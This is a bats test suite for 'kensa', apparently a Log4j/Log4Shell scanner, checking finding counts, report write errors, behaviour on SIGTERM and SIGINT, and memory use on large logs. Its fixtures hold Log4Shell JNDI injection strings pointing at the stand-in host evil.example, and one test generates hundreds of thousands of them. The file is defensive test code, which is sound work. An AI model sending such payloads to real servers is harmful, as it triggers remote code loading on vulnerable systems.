#!/usr/bin/env bats
# stream.bats - reports that automation can trust: per-threat counts, a
# write failure is an error, an interrupted scan still writes what it
# found, and memory does not grow with the number of hits (issue 8,
# defects 4, 5 and 6).

load helpers

setup_file() {
    make_fixtures
}

setup() {
    W="$BATS_TEST_TMPDIR/w"
    rm -rf "$W"
    mkdir -p "$W"
    ATTACK='203.0.113.9 - - [10/Dec/2021:10:00:00 +0000] "GET /?q=${jndi:ldap://evil.example:1389/a} HTTP/1.1" 200 5'
}

@test "the summary counts findings per threat" {
    cp "$FX/plain/log4j-core-2.14.1.jar" "$W/"
    mkdir -p "$W/logs"
    { echo "$ATTACK"; echo "$ATTACK"; } > "$W/logs/access.log"
    run "$KENSA" scan --threads 1 --color never "$W"
    [ "$status" -eq 1 ]
    [[ "$output" == *"Findings: 3 (log4shell: 3)"* ]]
}

@test "a report that cannot be written is an error (exit 2, with the reason)" {
    cp "$FX/plain/log4j-core-2.14.1.jar" "$W/"
    for fmt in text json csv; do
        run "$KENSA" log4j --format "$fmt" --no-summary -o /dev/full "$W"
        [ "$status" -eq 2 ]
        [[ "$output" == *"cannot write the report to /dev/full: No space left on device"* ]]
    done
    # the same scan to a writable file finds the copy (exit 1)
    run "$KENSA" log4j --no-summary -o "$W/r.txt" "$W"
    [ "$status" -eq 1 ]
    grep -q 'log4j-core 2.14.1' "$W/r.txt"
}

# interrupted SIG: start `kensa logs -` on a pipe that stays open after an
# attack line, signal it, and check what it wrote
interrupted() {
    local sig=$1 fmt=$2
    mkfifo "$W/in"
    ( echo "$ATTACK"; sleep 60 ) > "$W/in" &
    local writer=$!
    "$KENSA" logs --threads 1 --color never --format "$fmt" - < "$W/in" \
        > "$W/out" 2> "$W/err" &
    local pid=$!
    # wait until kensa is blocked reading the pipe
    for _ in $(seq 100); do
        grep -q 'pipe_read\|wait' "/proc/$pid/wchan" 2>/dev/null && break
        sleep 0.05
    done
    sleep 0.2
    kill "-$sig" "$pid"
    local st=0
    wait "$pid" || st=$?
    kill "$writer" 2>/dev/null || true
    wait "$writer" 2>/dev/null || true
    echo "$st"
}

@test "SIGTERM: what was found is written, the scan says it was interrupted, exit 143" {
    st=$(interrupted TERM text)
    cat "$W/out" "$W/err"
    [ "$st" -eq 143 ]
    grep -q 'Log4Shell attempt: Log4j would look up ldap://evil.example' "$W/out"
    grep -q 'Interrupted by SIGTERM: the scan is incomplete' "$W/err"
}

@test "SIGINT: the same, exit 130; JSON lines stay whole" {
    st=$(interrupted INT json)
    cat "$W/out" "$W/err"
    [ "$st" -eq 130 ]
    jq -e -s 'any(.[]; .kensa.verdict == "attack")' "$W/out" >/dev/null
    grep -q 'Interrupted by SIGINT' "$W/err"
}

@test "memory stays flat however many hits a log holds" {
    [[ "${KENSA_BUILD:-}" != *asan* ]] || skip "ASan's shadow memory makes RSS meaningless"
    python3 - "$W/access.log" <<'PY'
import sys
with open(sys.argv[1], 'w') as f:
    for i in range(800000):
        f.write('10.0.%d.%d - - [10/Dec/2021:10:00:00 +0000] "GET /?x=${jndi:ldap://h%d.evil.example/a} HTTP/1.1" 200 5\n'
                % (i % 250, i % 200, i % 5000))
PY
    [ "$(stat -c %s "$W/access.log")" -gt 80000000 ]
    for fmt in text json; do
        /usr/bin/time -f %M -o "$W/rss" "$KENSA" logs --threads 1 --no-summary \
            --format "$fmt" "$W/access.log" > "$W/out" || true
        [ "$(grep -c 'evil.example' "$W/out")" -ge 800000 ]
        rss=$(tail -1 "$W/rss")
        echo "$fmt: $rss KiB"
        [ "$rss" -lt 65536 ]
    done
}
